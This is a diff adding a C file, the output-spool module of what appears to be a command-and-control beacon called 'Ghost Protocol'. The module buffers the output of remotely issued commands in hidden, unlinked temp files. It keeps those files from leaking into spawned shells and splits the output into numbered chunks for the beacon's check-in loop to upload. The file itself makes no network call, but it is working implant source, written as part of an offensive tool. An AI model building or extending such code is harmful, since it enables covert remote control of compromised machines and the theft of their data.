@@ -0,0 +1,248 @@
+/*
+ * Ghost Protocol Beacon - Output Spool Implementation
+ * Buffers command output on disk and hands it to the check-in loop in numbered chunks
+ */
+
+// mkostemp is a GNU extension in glibc
+#define _GNU_SOURCE
+
+#include "output_spool.h"
+#include "records.h"
+#include "thread_sync.h"
+#include "worker_pool.h"
+
+#ifndef _WIN32
+#include <fcntl.h>
+#endif
+
+static output_spool_t g_spools[SPOOL_MAX_STREAMS];
+static sync_mutex_t g_lock;
+static int g_started = 0;
+
+#ifdef _WIN32
+static FILE* open_spool_file(void) {
+    return tmpfile();
+}
+#else
+// An unlinked file in TMPDIR, close-on-exec from the start; tmpfile() descriptors are left
+// inheritable, so a shell spawned on another worker thread would keep every open spool
+static FILE* open_spool_file(void) {
+    const char* directory = getenv("TMPDIR");
+    char path[512];
+    
+    if (!directory || directory[0] == '\0') {
+        directory = "/tmp";
+    }
+    if (snprintf(path, sizeof(path), "%s/.spool-XXXXXX", directory) >= (int)sizeof(path)) {
+        return NULL;
+    }
+    
+#ifdef O_CLOEXEC
+    int fd = mkostemp(path, O_CLOEXEC);
+#else
+    int fd = mkstemp(path);
+    if (fd >= 0) {
+        fcntl(fd, F_SETFD, FD_CLOEXEC);
+    }
+#endif
+    if (fd < 0) {
+        return NULL;
+    }
+    unlink(path);
+    
+    FILE* file = fdopen(fd, "w+b");
+    if (!file) {
+        close(fd);
+    }
+    return file;
+}
+#endif
+
+int spool_init(void) {
+    memset(g_spools, 0, sizeof(g_spools));
+    sync_mutex_init(&g_lock);
+    g_started = 1;
+    return 0;
+}
+
+// Returns NULL when spooling is unavailable; callers fall back to a single result
+output_spool_t* spool_open(const char* command_id) {
+    output_spool_t* spool = NULL;
+    
+    if (!g_started) {
+        return NULL;
+    }
+    
+    sync_lock(&g_lock);
+    for (int i = 0; i < SPOOL_MAX_STREAMS; i++) {
+        if (!g_spools[i].in_use) {
+            spool = &g_spools[i];
+            break;
+        }
+    }
+    
+    if (spool) {
+        memset(spool, 0, sizeof(output_spool_t));
+        spool->file = open_spool_file();
+        if (spool->file) {
+            strncpy(spool->command_id, command_id, sizeof(spool->command_id) - 1);
+            spool->in_use = 1;
+        } else {
+            spool = NULL;
+        }
+    }
+    sync_unlock(&g_lock);
+    
+    return spool;
+}
+
+static int chunk_ready(const output_spool_t* spool);
+
+int spool_write(output_spool_t* spool, const char* data, size_t length) {
+    int status = 0;
+    
+    sync_lock(&g_lock);
+    int was_ready = chunk_ready(spool);
+    if (fseek(spool->file, 0, SEEK_END) != 0 ||
+        fwrite(data, 1, length, spool->file) != length) {
+        status = -1;
+    } else {
+        spool->written += (long)length;
+    }
+    int now_ready = chunk_ready(spool);
+    sync_unlock(&g_lock);
+    
+    // Only the write that completes a chunk wakes the check-in loop
+    if (now_ready && !was_ready) {
+        worker_pool_notify();
+    }
+    return status;
+}
+
+void spool_finish(output_spool_t* spool, int success) {
+    sync_lock(&g_lock);
+    spool->success = success;
+    spool->finished = 1;
+    sync_unlock(&g_lock);
+    
+    worker_pool_notify();
+}
+
+// Length of the longest prefix that does not end inside a UTF-8 sequence
+static size_t utf8_boundary(const unsigned char* data, size_t length) {
+    size_t lead = length;
+    int back = 0;
+    
+    while (lead > 0 && back < 4) {
+        lead--;
+        back++;
+        if ((data[lead] & 0xC0) != 0x80) {
+            break;
+        }
+    }
+    
+    int expected = 1;
+    if ((data[lead] & 0xE0) == 0xC0) expected = 2;
+    else if ((data[lead] & 0xF0) == 0xE0) expected = 3;
+    else if ((data[lead] & 0xF8) == 0xF0) expected = 4;
+    
+    // Invalid or complete sequences are left alone; the serializer deals with the former
+    if (expected > back && lead > 0) {
+        return lead;
+    }
+    return length;
+}
+
+static int chunk_ready(const output_spool_t* spool) {
+    long available = spool->written - spool->uploaded;
+    return spool->finished || available >= SPOOL_CHUNK_SIZE;
+}
+
+// Hands out full chunks, plus the tail of finished commands, as records in the arena
+int spool_collect(arena_t* arena, result_record_t** results, int max_results) {
+    int count = 0;
+    
+    if (!g_started) {
+        return 0;
+    }
+    
+    sync_lock(&g_lock);
+    for (int i = 0; i < SPOOL_MAX_STREAMS; i++) {
+        output_spool_t* spool = &g_spools[i];
+        
+        while (spool->in_use && count < max_results && chunk_ready(spool)) {
+            long available = spool->written - spool->uploaded;
+            size_t length = available < SPOOL_CHUNK_SIZE ? (size_t)available : SPOOL_CHUNK_SIZE;
+            result_record_t* result = result_record_create(arena, spool->command_id, length);
+            if (!result) {
+                break;
+            }
+            
+            char* output = RESULT_OUTPUT(result);
+            if (length > 0) {
+                if (fseek(spool->file, spool->uploaded, SEEK_SET) != 0 ||
+                    fread(output, 1, length, spool->file) != length) {
+                    // The spool is unreadable; report what we have and drop the rest
+                    length = 0;
+                    spool->uploaded = spool->written;
+                    spool->finished = 1;
+                    spool->success = 0;
+                } else if ((long)length < available) {
+                    length = utf8_boundary((const unsigned char*)output, length);
+                }
+            }
+            output[length] = '\0';
+            result->output_length = (unsigned int)length;
+            spool->uploaded += (long)length;
+            
+            result->chunked = 1;
+            result->sequence = spool->next_sequence++;
+            result->final = spool->finished && spool->uploaded == spool->written;
+            result->success = result->final ? spool->success : 1;
+            results[count++] = result;
+            
+            if (result->final) {
+                fclose(spool->file);
+                memset(spool, 0, sizeof(output_spool_t));
+            }
+        }
+    }
+    sync_unlock(&g_lock);
+    
+    return count;
+}
+
+// Number of spools with a chunk ready to upload right now
+int spool_pending(void) {
+    int pending = 0;
+    
+    if (!g_started) {
+        return 0;
+    }
+    
+    sync_lock(&g_lock);
+    for (int i = 0; i < SPOOL_MAX_STREAMS; i++) {
+        if (g_spools[i].in_use && chunk_ready(&g_spools[i])) {
+            pending++;
+        }
+    }
+    sync_unlock(&g_lock);
+    
+    return pending;
+}
+
+// Releases finished spools; unfinished ones still belong to a running worker
+void spool_shutdown(void) {
+    if (!g_started) {
+        return;
+    }
+    
+    sync_lock(&g_lock);
+    for (int i = 0; i < SPOOL_MAX_STREAMS; i++) {
+        if (g_spools[i].in_use && g_spools[i].finished) {
+            fclose(g_spools[i].file);
+            memset(&g_spools[i], 0, sizeof(output_spool_t));
+        }
+    }
+    sync_unlock(&g_lock);
+}